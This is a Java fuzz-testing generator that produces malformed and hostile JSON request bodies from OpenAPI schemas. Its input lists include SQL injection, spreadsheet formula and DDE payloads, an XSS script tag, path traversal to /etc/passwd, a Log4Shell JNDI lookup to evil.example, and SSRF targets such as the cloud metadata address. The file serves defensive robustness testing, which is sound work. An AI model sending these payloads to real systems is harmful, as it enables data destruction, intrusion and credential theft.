package io.scoreledger.infra.edge;

import static org.quicktheories.generators.SourceDSL.strings;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.quicktheories.api.Pair;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/**
 * Request bodies for fuzzing, generated from the OpenAPI request schemas: mostly the right shape with hostile leaves
 * (control characters, odd Unicode, huge and negative numbers, wrong JSON types, deep nesting), sometimes a body
 * that is not the right shape or not JSON at all. Well-typed values are common enough that many requests pass the
 * edge and reach the aggregates and projections, which is where a hostile byte used to do harm.
 */
final class HostileInput {

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final int MAX_DEPTH = 4;

    static final List<String> HOSTILE_TEXT = List.of(
            "",
            " ",
            "\u0000",
            "Ops\u0000",
            "a\u0007b",
            "line\r\nbreak",
            "tab\there",
            "\u001b[31mred",
            "\u202Eevil.exe",
            "zero\u200Bwidth",
            "\uFEFFbom",
            "\uD800",
            "\uDFFF\uD800",
            "\uFFFF",
            "😀🏳️‍🌈👩🏽‍💻",
            "é".repeat(3),
            "'; DROP TABLE clients; --",
            "=HYPERLINK(\"http://evil.example\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "<script>alert(1)</script>",
            "%00",
            "../../etc/passwd",
            "${jndi:ldap://evil.example/a}",
            "A".repeat(10_000),
            "𝔘𝔫𝔦𝔠𝔬𝔡𝔢".repeat(400));

    private static final List<JsonNode> WRONG_TYPES = List.of(
            NODES.nullNode(),
            NODES.booleanNode(true),
            NODES.textNode("12"),
            NODES.arrayNode(),
            NODES.objectNode(),
            NODES.numberNode(Long.MAX_VALUE),
            NODES.numberNode(Long.MIN_VALUE),
            NODES.numberNode(-1),
            NODES.numberNode(new BigInteger("99999999999999999999999999999999")),
            NODES.numberNode(1e308),
            NODES.numberNode(new BigDecimal("-0.000000000000000000001")),
            NODES.numberNode(2_147_483_648L),
            nested(200));

    private static final List<String> NOT_THE_SHAPE = List.of(
            "",
            "null",
            "[]",
            "\"text\"",
            "42",
            "{",
            "{\"a\":",
            "NaN",
            "\uFEFF{}",
            "{\"name\":\"a\",\"name\":\"b\"}",
            "[".repeat(20_000) + "]".repeat(20_000),
            "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000),
            "1e999999999",
            "{\"name\": \"\\u0000\"}",
            "{\"name\": \"\\ud800\"}",
            "{\"x\": " + "9".repeat(5_000) + "}",
            "{\"name\": \"" + "x".repeat(2_200_000) + "\"}");

    private HostileInput() {}

    static Gen<String> body(JsonNode schema, JsonNode components) {
        Gen<String> shaped = value(schema, components, 0).map(HostileInput::write);
        return Generate.frequency(Pair.of(8, shaped), Pair.of(1, Generate.pick(NOT_THE_SHAPE)));
    }

    static Gen<String> text() {
        return Generate.frequency(
                Pair.of(4, Generate.pick(List.of("Acme", "Harbor Dental", "ops", "Security Awareness", "x"))),
                Pair.of(3, Generate.pick(HOSTILE_TEXT)),
                Pair.of(2, strings().allPossible().ofLengthBetween(0, 24)));
    }

    private static Gen<JsonNode> value(JsonNode schema, JsonNode components, int depth) {
        var resolved = resolve(schema, components);
        Gen<JsonNode> wellTyped = wellTyped(resolved, components, depth);
        return Generate.frequency(
                Pair.of(5, wellTyped),
                Pair.of(1, Generate.pick(WRONG_TYPES)),
                Pair.of(1, Generate.pick(HOSTILE_TEXT).map(NODES::textNode)));
    }

    private static Gen<JsonNode> wellTyped(JsonNode schema, JsonNode components, int depth) {
        if (schema.has("enum")) {
            var values = new ArrayList<JsonNode>();
            schema.path("enum").forEach(values::add);
            return Generate.pick(values);
        }
        return switch (type(schema)) {
            case "object" -> object(schema, components, depth);
            case "array" -> array(schema, components, depth);
            case "integer", "number" ->
                Generate.frequency(
                        Pair.of(3, Generate.range(-5, 150).map(i -> (JsonNode) NODES.numberNode(i))),
                        Pair.of(1, Generate.pick(WRONG_TYPES.subList(5, 12))));
            case "boolean" -> Generate.booleans().map(NODES::booleanNode);
            default -> string(schema);
        };
    }

    private static Gen<JsonNode> object(JsonNode schema, JsonNode components, int depth) {
        var properties = new ArrayList<Pair<String, Gen<JsonNode>>>();
        if (depth < MAX_DEPTH) {
            schema.path("properties")
                    .properties()
                    .forEach(property -> properties.add(
                            Pair.of(property.getKey(), value(property.getValue(), components, depth + 1))));
        }
        Gen<Boolean> include =
                Generate.frequency(Pair.of(6, Generate.constant(true)), Pair.of(1, Generate.constant(false)));
        return in -> {
            ObjectNode object = NODES.objectNode();
            for (var property : properties) {
                if (include.generate(in)) {
                    object.set(property._1, property._2.generate(in));
                }
            }
            return object;
        };
    }

    private static Gen<JsonNode> array(JsonNode schema, JsonNode components, int depth) {
        Gen<JsonNode> item =
                depth < MAX_DEPTH ? value(schema.path("items"), components, depth + 1) : text().map(NODES::textNode);
        Gen<Integer> size = Generate.frequency(Pair.of(8, Generate.range(0, 4)), Pair.of(1, Generate.constant(1_001)));
        return in -> {
            ArrayNode array = NODES.arrayNode();
            int wanted = size.generate(in);
            JsonNode first = null;
            for (int i = 0; i < wanted; i++) {
                // A thousand distinct generated items would take the whole run; past the fourth, repeat one.
                JsonNode next = i < 4 || first == null ? item.generate(in) : first;
                first = first == null ? next : first;
                array.add(next);
            }
            return array;
        };
    }

    private static Gen<JsonNode> string(JsonNode schema) {
        var format = schema.path("format").asText("");
        Gen<String> typical = switch (format) {
            case "date-time" ->
                Generate.pick(List.of(
                        Instant.now().minus(1, ChronoUnit.HOURS).toString(),
                        "1969-12-31T23:59:59Z",
                        "9999-12-31T23:59:59Z",
                        "+10000-01-01T00:00:00Z",
                        "2026-02-30T00:00:00Z",
                        Instant.now().plus(400, ChronoUnit.DAYS).toString(),
                        "yesterday",
                        "-999999999-01-01T00:00:00Z"));
            case "email" ->
                Generate.pick(List.of(
                        "fuzz-" + UUID.randomUUID().toString().substring(0, 6) + "@fuzz.example",
                        "a@b",
                        "no-at-sign",
                        "x".repeat(300) + "@fuzz.example",
                        "eve\u0000@fuzz.example"));
            case "uri", "url" ->
                Generate.pick(List.of(
                        "https://hooks.fuzz.example/in",
                        "javascript:alert(1)",
                        "http://127.0.0.1:8080/",
                        "http://169.254.169.254/latest/meta-data",
                        "file:///etc/passwd",
                        "https://[::1]/"));
            default -> text();
        };
        return Generate.frequency(Pair.of(3, typical), Pair.of(1, text())).map(NODES::textNode);
    }

    private static JsonNode resolve(JsonNode schema, JsonNode components) {
        var current = schema;
        for (int hops = 0; current.has("$ref") && hops < 8; hops++) {
            current = components.path(current.path("$ref").asText().replace("#/components/schemas/", ""));
        }
        if (current.has("oneOf") || current.has("anyOf")) {
            var options = current.has("oneOf") ? current.path("oneOf") : current.path("anyOf");
            for (var option : options) {
                if (!"null".equals(option.path("type").asText())) {
                    return resolve(option, components);
                }
            }
        }
        return current;
    }

    private static String type(JsonNode schema) {
        var type = schema.path("type");
        if (type.isArray()) {
            for (var each : type) {
                if (!"null".equals(each.asText())) {
                    return each.asText();
                }
            }
        }
        if (type.isTextual()) {
            return type.asText();
        }
        return schema.has("properties") ? "object" : schema.has("items") ? "array" : "string";
    }

    private static JsonNode nested(int depth) {
        JsonNode node = NODES.textNode("bottom");
        for (int i = 0; i < depth; i++) {
            node = NODES.arrayNode().add(node);
        }
        return node;
    }

    private static String write(JsonNode node) {
        try {
            return JSON.writeValueAsString(node);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
